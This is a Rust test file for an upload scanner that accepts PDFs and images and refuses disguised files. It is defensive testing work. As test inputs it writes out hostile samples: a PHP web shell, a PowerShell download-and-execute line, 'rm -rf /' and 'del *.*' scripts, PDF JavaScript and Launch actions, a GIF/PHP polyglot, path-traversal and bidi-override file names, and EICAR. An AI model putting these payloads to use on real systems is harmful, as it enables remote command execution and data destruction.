//! Tests of the built-in scanner: one table row per rule, with tiny but valid files built
//! here, plus the attacks the issue names (EICAR, a renamed executable).

use super::sniff::EICAR;
use super::*;
use proptest::prelude::*;

fn pdf() -> Vec<u8> {
    b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n\
      2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
        .to_vec()
}

fn pdf_with(extra: &str) -> Vec<u8> {
    let mut b = pdf();
    b.extend_from_slice(extra.as_bytes());
    b
}

fn png() -> Vec<u8> {
    let mut b = b"\x89PNG\r\n\x1a\n".to_vec();
    b.extend_from_slice(&[0, 0, 0, 13]);
    b.extend_from_slice(b"IHDR");
    b.extend_from_slice(&[0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]);
    b.extend_from_slice(&[0x1F, 0x15, 0xC4, 0x89]);
    b
}

fn jpeg() -> Vec<u8> {
    vec![
        0xFF, 0xD8, 0xFF, 0xE0, 0, 16, b'J', b'F', b'I', b'F', 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xFF,
        0xD9,
    ]
}

fn gif() -> Vec<u8> {
    let mut b = b"GIF89a".to_vec();
    b.extend_from_slice(&[1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, b';']);
    b
}

fn up<'a>(name: &'a str, declared: Option<&'a str>, bytes: &'a [u8]) -> Upload<'a> {
    Upload {
        file_name: name,
        declared_type: declared,
        bytes,
    }
}

fn check(name: &str, declared: Option<&str>, bytes: &[u8]) -> Verdict {
    scan(&ScanPolicy::default(), &up(name, declared, bytes))
}

fn ok(media: &str, name: &str) -> Verdict {
    Ok(Accepted {
        media_type: media.into(),
        file_name: name.into(),
    })
}

#[test]
fn valid_files_are_accepted_with_clean_names() {
    let (p, n, j, g) = (pdf(), png(), jpeg(), gif());
    let cases: Vec<(&str, Option<&str>, &[u8], Verdict)> = vec![
        (
            "brief.pdf",
            Some("application/pdf"),
            &p,
            ok("application/pdf", "brief.pdf"),
        ),
        ("Brief.PDF", None, &p, ok("application/pdf", "Brief.PDF")),
        (
            "scan.png",
            Some("image/png"),
            &n,
            ok("image/png", "scan.png"),
        ),
        (
            "photo.jpg",
            Some("image/jpeg"),
            &j,
            ok("image/jpeg", "photo.jpg"),
        ),
        (
            "photo.jpeg",
            Some("image/jpg"),
            &j,
            ok("image/jpeg", "photo.jpeg"),
        ),
        (
            "anim.gif",
            Some("image/gif; charset=binary"),
            &g,
            ok("image/gif", "anim.gif"),
        ),
        (
            "../../secret/brief.pdf",
            None,
            &p,
            ok("application/pdf", "brief.pdf"),
        ),
        (
            "no extension",
            None,
            &p,
            ok("application/pdf", "no extension.pdf"),
        ),
        (
            "Smith v. Jones",
            None,
            &j,
            ok("image/jpeg", "Smith v. Jones.jpg"),
        ),
        (
            "Contract v2.1",
            Some("application/octet-stream"),
            &p,
            ok("application/pdf", "Contract v2.1.pdf"),
        ),
        (
            "John.Smith.Will.pdf",
            Some(""),
            &p,
            ok("application/pdf", "John.Smith.Will.pdf"),
        ),
    ];
    for (name, declared, bytes, want) in cases {
        assert_eq!(check(name, declared, bytes), want, "{name}");
    }
}

#[test]
fn every_rule_refuses_with_its_reason() {
    let mz = b"MZ\x90\x00\x03\x00\x00\x00".to_vec();
    let mut big = pdf();
    big.resize(10 * 1024 * 1024 + 1, b' ');
    let text = b"just some notes\n".to_vec();
    let (p, n, j, g) = (pdf(), png(), jpeg(), gif());
    let exe = |s: &str| Refusal::Executable(s.into());
    // (what, name, declared type, content, refusal)
    type Case<'a> = (&'a str, &'a str, Option<&'a str>, Vec<u8>, Refusal);
    let cases: Vec<Case> = vec![
        ("empty", "a.pdf", None, vec![], Refusal::Empty),
        (
            "too large",
            "a.pdf",
            None,
            big,
            Refusal::TooLarge(10 * 1024 * 1024),
        ),
        (
            "eicar alone",
            "eicar.com",
            None,
            EICAR.to_vec(),
            Refusal::Malware("EICAR-Test-File".into()),
        ),
        (
            "eicar inside a pdf",
            "a.pdf",
            None,
            pdf_with(std::str::from_utf8(EICAR).expect("ascii")),
            Refusal::Malware("EICAR-Test-File".into()),
        ),
        (
            "renamed executable",
            "report.pdf",
            Some("application/pdf"),
            mz.clone(),
            exe("the content is a Windows executable (MZ)"),
        ),
        (
            "elf",
            "a.png",
            None,
            b"\x7fELF\x02\x01\x01".to_vec(),
            exe("the content is a ELF executable"),
        ),
        (
            "mach-o",
            "a.gif",
            None,
            vec![0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1],
            exe("the content is a Mach-O executable or Java class"),
        ),
        (
            "fat mach-o",
            "a.gif",
            None,
            vec![0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2],
            exe("the content is a Mach-O executable or Java class"),
        ),
        (
            "shebang",
            "run.pdf",
            None,
            b"#!/bin/sh\nrm -rf /\n".to_vec(),
            exe("the content is a script (#!)"),
        ),
        (
            "html",
            "page.pdf",
            None,
            b"\n  <!DOCTYPE html><p>hi".to_vec(),
            exe("the content is a HTML document"),
        ),
        (
            "script",
            "x.png",
            None,
            b"<script>alert(1)</script>".to_vec(),
            exe("the content is a HTML with script"),
        ),
        (
            "php",
            "x.jpg",
            None,
            b"<?php system($_GET['c']); ?>".to_vec(),
            exe("the content is a PHP script"),
        ),
        (
            "gif/php polyglot",
            "x.gif",
            None,
            [g.clone(), b"<?php echo 1; ?>".to_vec()].concat(),
            exe("the content is a PHP script"),
        ),
        (
            "asp",
            "x.pdf",
            None,
            b"<%@ Page Language=\"C#\" %>".to_vec(),
            exe("the content is a ASP/JSP page"),
        ),
        (
            "batch",
            "x.pdf",
            None,
            b"@ECHO OFF\r\ndel *.*\r\n".to_vec(),
            exe("the content is a Windows batch script"),
        ),
        (
            "powershell",
            "x.pdf",
            None,
            b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x'))".to_vec(),
            exe("the content is a PowerShell script"),
        ),
        (
            "utf-16 powershell",
            "x.pdf",
            None,
            "\u{feff}Write-Host hi"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
            exe("the content is a PowerShell script"),
        ),
        (
            "svg",
            "x.png",
            None,
            b"<svg xmlns='http://www.w3.org/2000/svg'/>".to_vec(),
            exe("the content is a SVG image (can carry script)"),
        ),
        (
            "bad name",
            "CON.pdf",
            None,
            p.clone(),
            Refusal::BadFileName(
                "the name is a reserved device name (CON, PRN, AUX, NUL, COM1-9, LPT1-9)".into(),
            ),
        ),
        (
            "nothing left of the name",
            "../..",
            None,
            p.clone(),
            Refusal::BadFileName("nothing usable is left of the name".into()),
        ),
        (
            "double extension",
            "invoice.pdf.exe",
            None,
            p.clone(),
            exe("the name has a .exe extension"),
        ),
        (
            "hidden inner extension",
            "a.exe.pdf",
            None,
            p.clone(),
            exe("the name has a .exe extension"),
        ),
        (
            "case-insensitive",
            "photo.JPG.Js",
            None,
            j.clone(),
            exe("the name has a .js extension"),
        ),
        (
            "trailing dot",
            "setup.exe.",
            None,
            p.clone(),
            exe("the name has a .exe extension"),
        ),
        (
            "bidi override",
            "invoice\u{202E}fdp.exe",
            None,
            p.clone(),
            exe("the name has a .exe extension"),
        ),
        (
            "svg by name",
            "logo.svg",
            None,
            n.clone(),
            exe("the name has a .svg extension"),
        ),
        (
            "unrecognised content",
            "notes.pdf",
            None,
            text,
            Refusal::TypeNotAllowed("unrecognised content".into()),
        ),
        (
            "extension disagrees",
            "scan.png",
            None,
            j.clone(),
            Refusal::TypeMismatch("the name ends in .png but the content is image/jpeg".into()),
        ),
        (
            "pdf named docx",
            "brief.docx",
            None,
            p.clone(),
            Refusal::TypeMismatch(
                "the name ends in .docx but the content is application/pdf".into(),
            ),
        ),
        (
            "declared disagrees",
            "scan.png",
            Some("image/gif"),
            n.clone(),
            Refusal::TypeMismatch("declared as image/gif but the content is image/png".into()),
        ),
        (
            "declared unknown",
            "brief.pdf",
            Some("text/plain; charset=utf-8"),
            p.clone(),
            Refusal::TypeMismatch(
                "declared as text/plain but the content is application/pdf".into(),
            ),
        ),
        (
            "pdf javascript",
            "a.pdf",
            None,
            pdf_with("3 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"),
            exe("PDF with active content (/JavaScript)"),
        ),
        (
            "pdf js only",
            "a.pdf",
            None,
            pdf_with("<</OpenAction<</S/X/JS 4 0 R>>>>"),
            exe("PDF with active content (/JS)"),
        ),
        (
            "pdf launch",
            "a.pdf",
            None,
            pdf_with("<< /S /Launch /F (cmd.exe) >>"),
            exe("PDF with active content (/Launch)"),
        ),
        (
            "pdf embedded file",
            "a.pdf",
            None,
            pdf_with("<< /Type /EmbeddedFile /Length 5 >>"),
            exe("PDF with active content (/EmbeddedFile)"),
        ),
        (
            "pdf hex-escaped name",
            "a.pdf",
            None,
            pdf_with("<< /S /J#61vaScript >>"),
            exe("PDF with active content (/JavaScript)"),
        ),
    ];
    for (what, name, declared, bytes, want) in cases {
        assert_eq!(check(name, declared, &bytes), Err(want), "{what}");
    }
}

#[test]
fn a_type_outside_the_policy_is_not_allowed() {
    let policy = ScanPolicy {
        allowed: vec![MediaType::Pdf],
        ..ScanPolicy::default()
    };
    assert_eq!(
        scan(&policy, &up("a.png", None, &png())),
        Err(Refusal::TypeNotAllowed("image/png".into()))
    );
    assert!(scan(&policy, &up("a.pdf", None, &pdf())).is_ok());
}

#[test]
fn the_size_limit_is_inclusive() {
    let policy = ScanPolicy {
        max_bytes: 64,
        ..ScanPolicy::default()
    };
    let mut p = pdf();
    p.truncate(64);
    assert!(scan(&policy, &up("a.pdf", None, &p)).is_ok());
    p.push(b'\n');
    assert_eq!(
        scan(&policy, &up("a.pdf", None, &p)),
        Err(Refusal::TooLarge(64))
    );
}

#[test]
fn js_inside_a_stream_body_is_chance_not_a_marker() {
    let body = "4 0 obj << /Length 8 >>\nstream\nxx/JS yy\nendstream\nendobj\n";
    assert!(check("a.pdf", None, &pdf_with(body)).is_ok());
    // The long names count even inside streams (an uncompressed object stream).
    let body = "4 0 obj << /Type /ObjStm >>\nstream\n<< /S /JavaScript >>\nendstream\nendobj\n";
    assert!(check("a.pdf", None, &pdf_with(body)).is_err());
}

#[test]
fn sniffing_names_types_by_magic() {
    let cases: Vec<(Vec<u8>, Option<&str>)> = vec![
        (pdf(), Some("application/pdf")),
        (png(), Some("image/png")),
        (jpeg(), Some("image/jpeg")),
        (gif(), Some("image/gif")),
        (b"GIF87a".to_vec(), Some("image/gif")),
        (b"MZ".to_vec(), Some("application/x-msdownload")),
        (b"\x7fELF".to_vec(), Some("application/x-executable")),
        (
            vec![0xFE, 0xED, 0xFA, 0xCE],
            Some("application/x-mach-binary"),
        ),
        (b"#!".to_vec(), Some("text/x-shellscript")),
        (b"<html>".to_vec(), Some("text/html")),
        (b"hello".to_vec(), None),
        (vec![], None),
        (b"%PDF".to_vec(), None),
    ];
    for (bytes, want) in cases {
        assert_eq!(sniff(&bytes), want, "{bytes:?}");
    }
}

#[test]
fn media_types_parse_with_aliases_and_serialise_as_iana_names() {
    assert_eq!(
        "IMAGE/JPG".parse::<MediaType>().expect("alias"),
        MediaType::Jpeg
    );
    assert_eq!(
        "application/pdf; x=y".parse::<MediaType>().expect("params"),
        MediaType::Pdf
    );
    assert!("text/html".parse::<MediaType>().is_err());
    let json = serde_json::to_string(&ScanPolicy::default()).expect("serialises");
    assert!(json.contains("\"application/pdf\""), "{json}");
    let back: Vec<MediaType> = serde_json::from_str("[\"pdf\",\"image/gif\"]").expect("aliases");
    assert_eq!(back, vec![MediaType::Pdf, MediaType::Gif]);
}

#[test]
fn policy_validation_names_the_key() {
    assert!(ScanPolicy::default().validate().is_ok());
    for (policy, key) in [
        (
            ScanPolicy {
                max_bytes: 0,
                ..ScanPolicy::default()
            },
            "uploads.max_bytes",
        ),
        (
            ScanPolicy {
                allowed: vec![],
                ..ScanPolicy::default()
            },
            "uploads.allowed",
        ),
    ] {
        match policy.validate() {
            Err(Error::InvalidConfig { key: k, .. }) => assert_eq!(k, key),
            other => panic!("{key}: {other:?}"),
        }
    }
}

#[tokio::test]
async fn the_scanner_trait_gives_the_pure_verdict() {
    let s = BuiltinScanner::default();
    assert!(s.healthcheck().await.is_ok());
    assert!(s.to_string().contains("builtin"));
    let mz = b"MZ\x90\x00".to_vec();
    let verdict = s
        .scan(&up("report.pdf", None, &mz))
        .await
        .expect("pure scan never fails");
    assert!(matches!(verdict, Err(Refusal::Executable(_))));
}

proptest! {
    #[test]
    fn scan_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..2048), name in "\\PC{0,64}", declared in proptest::option::of("\\PC{0,40}")) {
        let _ = check(&name, declared.as_deref(), &bytes);
        let _ = sniff(&bytes);
    }

    #[test]
    fn scan_never_panics_on_valid_prefixes(prefix in 0usize..4, tail in proptest::collection::vec(any::<u8>(), 0..512), name in "[a-z./\\\\]{0,12}") {
        let mut bytes = [pdf(), png(), jpeg(), gif()][prefix].clone();
        bytes.extend_from_slice(&tail);
        if let Ok(accepted) = check(&name, None, &bytes) {
            prop_assert!(!accepted.file_name.contains(['/', '\\']));
            prop_assert!(sniff(&bytes) == Some(accepted.media_type.as_str()));
        }
    }

    #[test]
    fn eicar_is_found_anywhere(prefix in proptest::collection::vec(any::<u8>(), 0..300), suffix in proptest::collection::vec(any::<u8>(), 0..300)) {
        let bytes = [prefix, EICAR.to_vec(), suffix].concat();
        prop_assert_eq!(check("a.pdf", None, &bytes), Err(Refusal::Malware("EICAR-Test-File".into())));
    }
}
